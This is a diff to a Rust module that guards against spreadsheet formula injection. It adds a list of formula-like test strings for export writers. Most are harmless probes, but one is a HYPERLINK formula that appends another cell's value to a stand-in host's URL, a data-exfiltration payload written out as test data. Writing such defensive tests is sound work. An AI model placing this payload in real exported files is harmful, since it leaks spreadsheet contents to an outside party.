@@ -18,6 +18,20 @@ use std::borrow::Cow;
 /// methods type them, and some spreadsheets read them as their ASCII forms.
 const TRIGGERS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
 
+/// Formula-like texts of the security review (issue 9), one of each way a cell starts a
+/// formula: the examples the tests of every writer and every export run.
+pub const FORMULA_EXAMPLES: [&str; 9] = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    " =1",
+    "'=1",
+    "=HYPERLINK(\"http://x/?\"&A2,\"点击\")",
+];
+
 /// Whether a spreadsheet opening this text as a cell could take it for a formula: its first
 /// character is `=`, `+`, `-`, `@` (or their full-width forms), TAB, CR or LF, or its first
 /// character after leading white space (spaces, full-width spaces, no-break spaces …) is
